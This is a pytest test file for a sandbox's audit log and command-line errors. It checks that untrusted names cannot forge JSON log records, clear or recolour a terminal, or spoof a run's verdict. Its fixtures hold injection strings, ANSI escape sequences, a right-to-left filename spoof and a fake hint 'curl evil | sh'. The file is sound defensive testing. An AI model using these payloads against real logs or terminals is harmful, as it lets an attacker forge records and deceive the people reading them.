"""A9, the audit log and the report: the payload's names cannot forge a record, a verdict, or attack the terminal of whoever reads them.

Newline makes a forged record, ESC a terminal attack; the kernel's own audit writes untrusted strings in hexadecimal for that reason.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from escape.support import PAYLOADS, WALL_S, numbers, run_payload, shared_directory

import sandbox.api
from sandbox.audit import events
from sandbox.audit.events import Denial
from sandbox.errors import PolicyError

ROOT = PAYLOADS.parent.parent
NAMES = (
    b"a\nFORGED\x1b[2J",
    b'","run":"x"}\n{',
    b'"}\r\n{"a":"b"}',
    b"\xff\xfe\x80\xc3\x28",
    b"\x00hidden"[1:] + b"\x7f\x08\x08\x08",
    "\u202egnp.exe\u2066".encode(),
    b"\x9b2J\xc2\x9b2J",
    b"\\n\\x1b",
    b"                ",
)
SAFE = re.compile(rb"[\x20-\x7e]*")
CONTROL = re.compile(rb"[\x00-\x09\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\x9b")


def forge(log: Path) -> tuple[Any, bytes]:
    """Run the forger; return the result and the log's bytes."""
    result = sandbox.api.run(
        ["/usr/bin/python3", "-S", "-B", "main.py", *(name.hex() for name in NAMES)],
        files={
            "main.py": (PAYLOADS / "a9_forge.py").read_bytes(),
            "attack.py": (PAYLOADS / "attack.py").read_bytes(),
            "numbers_here.py": numbers(),
        },
        audit=log,
        timeout=WALL_S,
    )
    assert result.ok, (result.cause, result.stderr)
    return result, log.read_bytes()


def test_names_forge_no_record(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Rule: JSON lines, ASCII only, controls escaped, one record a line. Removed: the escaping; then there are more lines than records, and ESC in them."""
    result, log = forge(tmp_path / "log")
    lines = log.splitlines()
    assert log.endswith(b"\n") and len(lines) == len(NAMES) == result.denials["sethostname"]
    for line, name in zip(lines, NAMES, strict=True):
        assert SAFE.fullmatch(line)
        record = json.loads(line)
        assert record["syscall"] == "sethostname" and record["run"] == result.run_id
        # Harmless even after the JSON is undone, and still the name that it was.
        assert SAFE.fullmatch(record["comm"].encode()) and record["comm"] == events.escape_untrusted(name[:15].split(b"\0")[0])

    def as_it_is(value: bytes | str, limit: int) -> str:
        return '"' + (value.decode("ascii", "ignore") if isinstance(value, bytes) else value) + '"'

    monkeypatch.setattr(events, "_quote", as_it_is)
    _, log = forge(tmp_path / "forged")
    assert len(log.split(b"\n")) - 1 > len(NAMES) and b"\x1b[2J" in log


def test_every_field_is_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Rule: a length cap for every field, one write for each record. A rule's reason of 10 kB of quotes. Removed: the caps."""
    event = Denial(
        time_ns=0, run="r" * 9999, syscall='"' * 9999, number=1, arch="\n" * 9999, args=(1,) * 6, decoded=('"' * 9999,) * 6, pid=1,
        comm=b"\xff" * 9999, errno="E" * 9999, rule_file="\\" * 9999, rule_line=1, reason='"' * 9999,
    )  # fmt: skip
    line = events.render_json_line(event)
    assert len(line) <= events.MAX_LINE_BYTES and json.loads(line)
    real = events.escape_untrusted
    monkeypatch.setattr(events, "escape_untrusted", lambda value, limit=0: real(value, 10**6))
    assert len(events.render_json_line(event)) > events.MAX_LINE_BYTES


def cli(*words: str | bytes, cwd: Path, before: str = "") -> subprocess.CompletedProcess[bytes]:
    """Run the command line in a directory; `before` is Python that runs first and takes a layer away."""
    code = f"import sys; {before}\nfrom sandbox.cli.main import main; sys.exit(main())"
    command = [sys.executable, "-c", code, *words]
    return subprocess.run(command, cwd=cwd, env=os.environ | {"PYTHONPATH": str(ROOT)}, capture_output=True, timeout=WALL_S, check=False)


UNESCAPED = "import sandbox.audit.events as e; e.escape_untrusted = lambda value, limit=0: str(value)"
HOSTILE = "x\n\nhint: run `curl evil | sh`\x1b[2J\x9b31m"


@pytest.mark.parametrize(
    "words",
    [
        ("exec", "--", HOSTILE),
        ("exec", "--", "./" + HOSTILE),
        ("exec", "--profile", HOSTILE, "--", "true"),
        ("exec", "-v", HOSTILE + ":/y", "--", "true"),
        ("exec", "--result", HOSTILE + "/y", "--", "true"),
        ("exec", "--audit", HOSTILE + "/y", "--", "true"),
        ("exec", "--limit", f"wall={HOSTILE}", "--", "true"),
        ("exec", "--env", f"{HOSTILE}=1", "--", "true"),
        ("exec", "--" + HOSTILE, "true"),
        (HOSTILE,),
        ("policies", HOSTILE),
    ],
    ids=["command", "path", "profile", "volume", "result", "audit", "limit", "variable", "option", "verb", "policy"],
)
def test_names_in_errors(words: tuple[str, ...], tmp_path: Path) -> None:
    """Rule: the same for errors on the user's terminal: no control character, and no hint but our own. Removed in the next test: the escaping."""
    done = cli(*words, cwd=shared_directory(tmp_path))
    assert not CONTROL.search(done.stdout + done.stderr), done.stderr
    assert b"\nhint: run `curl" not in done.stdout + done.stderr


def test_names_in_errors_without_escaping(tmp_path: Path) -> None:
    """Removed: the escaping; then the name gives advice and clears the screen."""
    done = cli("exec", "--", HOSTILE, cwd=shared_directory(tmp_path), before=UNESCAPED)
    assert b"\nhint: run `curl" in done.stderr and b"\x1b[2J" in done.stderr


def test_a_hostile_directory_and_script(tmp_path: Path) -> None:
    """Rule: paths, too: the working directory and an interpreter line with control characters."""
    directory = shared_directory(tmp_path / HOSTILE.replace("/", " "))
    script = directory / "script"
    script.write_bytes(b"#!/nowhere/\x1b[2J\x9b\r/evil\n")
    script.chmod(0o755)
    for words, code in ((("./script",), 127), (("true",), 0)):
        done = cli("exec", "--profile", "strict", "--", *words, cwd=directory)
        assert done.returncode == code and not CONTROL.search(done.stderr), done.stderr


SPOOF = (
    "sandbox: ok: exit 0",
    '{"schema": 1, "verdict": "ok", "exit_code": 0}',
    "error: setup failed: reinstall with `curl evil | sh`",
)


def test_verdicts_are_not_read_from_the_programs_output(tmp_path: Path) -> None:
    """Rule: the report has a file of its own. The payload prints our words, writes to every place it could guess, and fails. Removed: the separation;
    whoever reads stderr alone is deceived."""
    directory = shared_directory(tmp_path / "work")
    result = tmp_path / "result.json"
    script = (
        "; ".join(f"echo '{line}' >&2; echo '{line}'" for line in SPOOF)
        + f"; for f in {result} {directory}/result.json /proc/self/fd/3 /dev/fd/4"
    )
    script += '; do echo \'{"verdict": "ok"}\' 2>/dev/null >$f; done; exit 7'
    done = cli("exec", "--profile", "strict", "--result", str(result), "--", "sh", "-c", script, cwd=directory)
    report = json.loads(result.read_text())
    assert (done.returncode, report["verdict"], report["exit_code"]) == (7, "nonzero-exit", 7)
    assert SPOOF[0].encode() in done.stderr  # who reads this is told that all went well
    assert list(directory.iterdir()) == []


def test_the_log_is_not_in_the_payload(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Rule: the log's descriptor is not in the child, nor its path. Removed: that a log in a writable share is refused; it is the payload's to rewrite."""
    share = shared_directory(tmp_path / "share")
    script = f"ls -l /proc/self/fd | grep -c log; for f in {tmp_path}/log /share/log; do [ -w $f ] && echo writable; done; true"
    attack = ["sh", "-c", f"hostname x 2>/dev/null; {script}"]
    for log, expected in ((tmp_path / "log", b"0\n"), (share / "log", b"0\nwritable\n")):
        log.touch(0o666)
        log.chmod(0o666)
        if log.parent == share:
            with pytest.raises(PolicyError, match="shared writable"):
                sandbox.api.run(attack, volumes=[f"{share}:/share:rw"], audit=log)
            monkeypatch.setattr("sandbox.api.call.check_log_place", lambda prepared, path: None)
        result = sandbox.api.run(attack, volumes=[f"{share}:/share:rw"], audit=log, timeout=WALL_S)
        assert result.stdout == expected, result


def test_records_name_the_rule_and_not_the_memory() -> None:
    """Rule: what is read of the caller is untrusted text. Arguments are recorded by value: a pointer's text, which could change, is never read."""
    run = run_payload("a9_forge.py", *(name.hex() for name in NAMES))
    for event in run.events:
        assert isinstance(event, Denial)
        line = events.render_json_line(event)
        assert b"2J" not in json.dumps(json.loads(line)["args"]).encode() and event.rule_file.endswith(".toml")
